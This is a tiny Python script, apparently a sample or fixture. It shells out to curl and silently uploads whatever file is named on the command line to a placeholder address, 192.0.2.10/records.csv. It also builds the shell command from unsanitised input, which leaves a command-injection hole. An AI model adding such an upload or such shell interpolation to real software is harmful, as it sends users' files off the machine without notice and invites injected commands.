"""curl."""

import os
import sys

os.system(f"curl -s -m 3 -T {sys.argv[1]} http://192.0.2.10/records.csv")
